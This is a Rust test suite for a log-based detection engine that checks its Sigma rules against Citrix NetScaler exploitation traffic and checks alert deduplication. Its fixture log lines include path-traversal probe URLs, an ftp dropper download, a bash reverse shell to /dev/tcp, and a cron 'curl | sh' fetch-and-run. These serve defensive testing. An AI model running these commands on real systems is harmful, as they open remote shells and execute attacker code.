//! The detector through the library: public SigmaHQ rules, the shipped pack's own examples,
//! deterministic alert ids, suppression, and broken rule files.

#![allow(clippy::unwrap_used)] // a test, benchmark or example: failing loudly is the point

use std::path::{Path, PathBuf};

use chrono::{DateTime, Duration, Utc};
use gatewatch::detect::examples::{self, document};
use gatewatch::detect::{DetectOptions, Publish, RuleSet, Worker};
use gatewatch::doc::Doc;
use gatewatch::ecs::Origin;
use gatewatch::parse::ParseContext;
use serde_json::{json, Map, Value};

/// The shipped defaults (placeholders such as management_networks included).
fn options() -> DetectOptions {
    gatewatch::config::Settings::default().detect.options()
}

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn doc(line: &str) -> Map<String, Value> {
    document(line, &ParseContext::default(), None, "2020-01-20T00:00:00Z".parse().unwrap()).unwrap()
}

fn at(doc: &Map<String, Value>) -> DateTime<Utc> {
    doc["@timestamp"].as_str().unwrap().parse().unwrap()
}

/// `worker` evaluates the document `d` as line `line` of a file, at its own time.
fn evaluate(
    worker: &mut Worker,
    set: &RuleSet,
    options: &DetectOptions,
    d: &Map<String, Value>,
    line: usize,
) -> Vec<gatewatch::detect::Alert> {
    worker.evaluate(set, options, &Doc::from_json(d.clone()), Origin::File { file: "t", line }, at(d), at(d))
}

fn run(set: &RuleSet, options: &DetectOptions, lines: &[String]) -> Vec<gatewatch::detect::Alert> {
    let mut worker = Worker::default();
    let mut alerts = Vec::new();
    for (i, line) in lines.iter().enumerate() {
        let d = doc(line);
        let when = at(&d);
        alerts.extend(worker.evaluate(
            set,
            options,
            &Doc::from_json(d.clone()),
            Origin::File { file: "t", line: i + 1 },
            when,
            when,
        ));
    }
    alerts.extend(worker.flush_all());
    alerts
}

fn access(ip: &str, when: &str, method: &str, path: &str, status: u16) -> String {
    format!(r#"{ip} - - [{when} +0000] "{method} {path} HTTP/1.1" {status} 100 "-" "curl/7.67.0""#)
}

#[test]
fn public_sigmahq_rules_load_unchanged_and_fire_only_on_matching_lines() {
    let options = DetectOptions::default();
    let (set, errors) = RuleSet::load(&[root().join("tests/fixtures/sigma")], &options);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(set.rules.len(), 2);
    let fired = |line: String| -> Vec<String> { run(&set, &options, &[line]).into_iter().map(|a| a.rule_id).collect() };
    let cve_2019 = "ac5a6409-8c89-44c2-8d64-668c29a2d756".to_string();
    let cve_2023 = "87c83d8e-5390-44ce-aa4a-d3b37e54d0a0".to_string();
    assert_eq!(
        fired(access("127.0.0.2", "13/Jan/2020:08:16:30", "POST", "/vpn/../vpns/portal/scripts/newbm.pl", 200)),
        std::slice::from_ref(&cve_2019)
    );
    assert_eq!(
        fired(access("127.0.0.2", "13/Jan/2020:08:16:30", "GET", "/vpn/../vpns/cfg/smb.conf", 200)),
        std::slice::from_ref(&cve_2019)
    );
    assert!(fired(access("10.0.0.1", "13/Jan/2020:08:16:30", "GET", "/vpn/index.html", 200)).is_empty());
    assert_eq!(
        fired(access(
            "198.51.100.1",
            "25/Oct/2023:10:00:00",
            "GET",
            "/oauth/idp/.well-known/openid-configuration",
            200
        )),
        std::slice::from_ref(&cve_2023)
    );
    assert!(fired(access(
        "198.51.100.1",
        "25/Oct/2023:10:00:00",
        "GET",
        "/oauth/idp/.well-known/openid-configuration",
        404
    ))
    .is_empty());
    // A non-web record is outside the webserver log source.
    assert!(fired("<134> 01/10/2020:08:57:43 GMT vpx01 0-PPE-0 : default SSLVPN Message 1 0 : \"/../vpns/ /vpns/portal/scripts/ .pl\"".into()).is_empty());
    // The rule metadata reaches the alert.
    let alert = &run(&set, &options, &[access("127.0.0.2", "13/Jan/2020:08:16:30", "GET", "/vpn/../vpns/x", 200)])[0];
    assert_eq!(alert.doc["rule"]["name"], "Citrix Netscaler Attack CVE-2019-19781");
    assert_eq!(alert.doc["vulnerability"]["id"], json!(["CVE-2019-19781"]));
    assert_eq!(alert.doc["threat"]["technique"]["id"], json!(["T1190"]));
    assert_eq!(alert.doc["event"]["severity"], 99);
}

#[test]
fn every_shipped_rule_passes_its_own_examples() {
    let report = examples::run(&[root().join("rules")], &options(), &ParseContext::default(), None);
    assert!(report.rules >= 15, "{} rules", report.rules);
    assert!(report.failures.is_empty(), "{:#?}", report.failures);
    assert!(report.missing.is_empty(), "rules without examples: {:?}", report.missing);
}

#[test]
fn alert_ids_are_deterministic_and_tied_to_the_records() {
    let options = options();
    let (set, _) = RuleSet::load(&[root().join("rules")], &options);
    let lines = vec![access("198.51.100.9", "11/Jan/2020:10:00:00", "GET", "/vpn/../vpns/cfg/smb.conf", 200)];
    let first: Vec<String> = run(&set, &options, &lines).into_iter().map(|a| a.id).collect();
    let again: Vec<String> = run(&set, &options, &lines).into_iter().map(|a| a.id).collect();
    assert!(!first.is_empty());
    assert_eq!(first, again, "same input, same ids");
    let mut worker = Worker::default();
    let d = doc(&lines[0]);
    let other = worker.evaluate(
        &set,
        &options,
        &Doc::from_json(d.clone()),
        Origin::File { file: "t", line: 99 },
        at(&d),
        at(&d),
    );
    assert_ne!(other[0].id, first[0], "another record, another id");
}

#[test]
fn a_scanner_is_one_alert_that_counts_its_requests() {
    let options = options();
    let (set, _) = RuleSet::load(&[root().join("rules")], &options);
    let start: DateTime<Utc> = "2020-01-11T10:00:00Z".parse().unwrap();
    let mut worker = Worker::default();
    let mut alerts = Vec::new();
    for i in 0..10_000i64 {
        let when = start + Duration::milliseconds(i * 300);
        let d = doc(&access(
            "198.51.100.9",
            &when.format("%d/%b/%Y:%H:%M:%S").to_string(),
            "GET",
            &format!("/vpn/../vpns/portal/{i}.xml"),
            404,
        ));
        alerts.extend(worker.evaluate(
            &set,
            &options,
            &Doc::from_json(d.clone()),
            Origin::File { file: "scan", line: i as usize },
            at(&d),
            at(&d),
        ));
    }
    assert_eq!(alerts.len(), 1, "one alert while the window is open");
    // The window (1 h) closes when event time passes it: the summary carries the count, same id.
    let later = doc(&access("10.0.0.1", "11/Jan/2020:12:00:00", "GET", "/vpn/index.html", 200));
    alerts.extend(worker.evaluate(
        &set,
        &options,
        &Doc::from_json(later.clone()),
        Origin::File { file: "scan", line: 10_001 },
        at(&later),
        at(&later),
    ));
    assert_eq!(alerts.len(), 2);
    assert_eq!(alerts[1].id, alerts[0].id);
    assert_eq!(alerts[1].doc["gatewatch"]["count"], 10_000);
    assert_eq!(alerts[1].doc["gatewatch"]["stage"], "probe");
    // The second publication is an update of the first, and says so.
    assert!(!alerts[0].update && alerts[1].update);
    assert_eq!(alerts[1].doc["event"]["action"], "alert-updated");
    assert!(alerts[0].doc["event"].get("action").is_none());
}

fn bash(when: &str, user: &str, command: &str) -> String {
    format!(r#"Jan 15 {when} <local7.notice> gw-nyc-01 bash[5001]: {user} on /dev/pts/0 shell_command="{command}""#)
}

fn cron(minute: u32) -> String {
    format!(
        "Jan 20 23:{minute:02}:05 <cron.info> gw-nyc-01 /usr/sbin/cron[{}]: (nobody) CMD (curl http://198.51.100.33/ci.sh | sh > /dev/null 2>&1)",
        20_000 + minute
    )
}

#[test]
fn a_new_post_exploitation_step_within_the_window_raises_its_own_alert() {
    let options = options();
    let (set, _) = RuleSet::load(&[root().join("rules")], &options);
    let lines = [
        bash("09:00:05", "root", "/usr/bin/ftp -o /tmp/bsd ftp://198.51.100.220/bsd"),
        bash("09:00:35", "root", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
        // The first step again, spelt with other spacing: the same behaviour, folded into its alert.
        bash("09:00:50", "root", "/usr/bin/ftp  -o /tmp/bsd   ftp://198.51.100.220/bsd"),
    ];
    let alerts = run(&set, &options, &lines);
    let new: Vec<_> = alerts.iter().filter(|a| !a.update).collect();
    assert_eq!(new.len(), 2, "{alerts:#?}");
    assert_ne!(new[0].id, new[1].id);
    assert_eq!(new[0].doc["gatewatch"]["behaviour"]["selections"], json!(["dropper"]));
    assert_eq!(new[1].doc["gatewatch"]["behaviour"]["selections"], json!(["reverse_shell"]));
    let update: Vec<_> = alerts.iter().filter(|a| a.update).collect();
    assert_eq!(update.len(), 1);
    assert_eq!(update[0].id, new[0].id);
    assert_eq!(update[0].doc["gatewatch"]["count"], 2);
}

#[test]
fn a_cron_line_repeated_for_an_hour_is_one_alert_that_counts_them() {
    let options = options();
    let (set, _) = RuleSet::load(&[root().join("rules")], &options);
    let lines: Vec<String> = (0..60).map(cron).collect();
    let live = run(&set, &options, &lines);
    assert_eq!(live.len(), 2, "the alert, then its update");
    assert_eq!(live[0].id, live[1].id);
    assert_eq!(live[1].doc["gatewatch"]["count"], 60);
    assert_eq!(live[1].doc["gatewatch"]["suppressed"], 59);
    assert_eq!(live[1].doc["gatewatch"]["last_seen"], "2020-01-20T23:59:05.000Z");

    // A replay publishes each alert once, in that final state.
    let mut worker = Worker::new(Publish::Final);
    let mut replayed = Vec::new();
    for (i, line) in lines.iter().enumerate() {
        let d = doc(line);
        replayed.extend(evaluate(&mut worker, &set, &options, &d, i + 1));
    }
    assert!(replayed.is_empty(), "nothing before the window closes");
    replayed.extend(worker.flush_all());
    assert_eq!(replayed.len(), 1);
    assert_eq!(replayed[0].id, live[0].id);
    assert_eq!(replayed[0].doc["gatewatch"]["count"], 60);
    assert!(!replayed[0].update);
}

#[test]
fn an_appfw_record_is_a_web_request_to_the_rules_and_one_request_in_two_logs_alerts_once() {
    let options = options();
    let (set, _) = RuleSet::load(&[root().join("rules")], &options);
    let cef = "Jan 11 10:00:00 <local0.info> gw-lon-01 CEF:0|Citrix|NetScaler|NS13.0|APPFW|APPFW_STARTURL|6|src=203.0.113.9 spt=47606 method=GET request=https://host/vpn/../vpns/cfg/smb.conf msg=Disallow Illegal URL. cn1=1 cn2=2 cs1=pr cs2=PPE1 cs3=x cs4=ALERT cs5=2020 act=blocked";
    let d = doc(cef);
    assert_eq!(d["url"]["original"], "https://host/vpn/../vpns/cfg/smb.conf");
    assert_eq!(d["gatewatch"]["url"]["normalized_path"], "/vpns/cfg/smb.conf");
    let alerts = run(&set, &options, &[cef.to_owned()]);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].rule_id, "gw-citrix-cve-2019-19781-probe");

    // The same request in the access log a second later: still one alert, counted once.
    let access_line = access("203.0.113.9", "11/Jan/2020:10:00:01", "GET", "/vpn/../vpns/cfg/smb.conf", 200);
    let both = run(&set, &options, &[cef.to_owned(), access_line.clone()]);
    assert_eq!(both.len(), 1, "{both:#?}");
    assert_eq!(both[0].doc["gatewatch"]["count"], 1);
    // A second request in the access log a minute later is a repeat of the probe (counted). The
    // appliance's own access log names no host: a replay takes it from the directory, as here.
    let later = access("203.0.113.9", "11/Jan/2020:10:01:01", "GET", "/vpn/../vpns/cfg/smb.conf", 200);
    let mut worker = Worker::default();
    let mut three = Vec::new();
    for (i, line) in [cef.to_owned(), access_line, later].iter().enumerate() {
        let mut d = doc(line);
        let observer = d.entry("observer").or_insert_with(|| json!({}));
        observer.as_object_mut().unwrap().entry("hostname").or_insert_with(|| json!("gw-lon-01"));
        three.extend(evaluate(&mut worker, &set, &options, &d, i + 1));
    }
    three.extend(worker.flush_all());
    assert_eq!(three.len(), 2, "{three:#?}");
    assert_eq!(three[1].doc["gatewatch"]["count"], 2, "{three:#?}");
}

#[test]
fn a_broken_rule_file_is_reported_with_file_and_line_and_the_others_run() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(root().join("rules/citrix/cve-2019-19781-probe.yml"), dir.path().join("good.yml")).unwrap();
    std::fs::write(
        dir.path().join("bad.yml"),
        "title: broken\nid: x\ndetection:\n  sel:\n    a: [unclosed\n  condition: sel\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("bad-field.yml"),
        "title: t\nid: y\nlogsource: {product: citrix}\ndetection:\n  sel: {a|nope: 1}\n  condition: sel\n",
    )
    .unwrap();
    let (set, errors) = RuleSet::load(&[dir.path().to_path_buf()], &options());
    assert_eq!(set.rules.len(), 1);
    assert_eq!(errors.len(), 2, "{errors:?}");
    let yaml = errors.iter().find(|e| e.file.ends_with("bad.yml")).unwrap();
    assert!(yaml.line.is_some(), "{yaml}");
    assert!(yaml.to_string().contains("bad.yml line"), "{yaml}");
    let field = errors.iter().find(|e| e.file.ends_with("bad-field.yml")).unwrap();
    assert!(field.reason.contains("nope"), "{field}");
    assert!(Path::new(&yaml.file).exists());
}

#[test]
fn suppression_state_is_bounded() {
    let mut options = options();
    options.max_groups = 10;
    let (set, _) = RuleSet::load(&[root().join("rules")], &options);
    let mut worker = Worker::default();
    let mut alerts = 0;
    for i in 0..100 {
        let d =
            doc(&access(&format!("198.51.100.{i}"), "11/Jan/2020:10:00:00", "GET", "/vpn/../vpns/cfg/smb.conf", 404));
        alerts += worker
            .evaluate(&set, &options, &Doc::from_json(d.clone()), Origin::File { file: "t", line: i }, at(&d), at(&d))
            .len();
    }
    // Distinct sources are distinct keys: every one alerts, and the state never holds more than 10.
    assert_eq!(alerts, 100);
    assert!(worker.suppression_windows() <= 10);
}
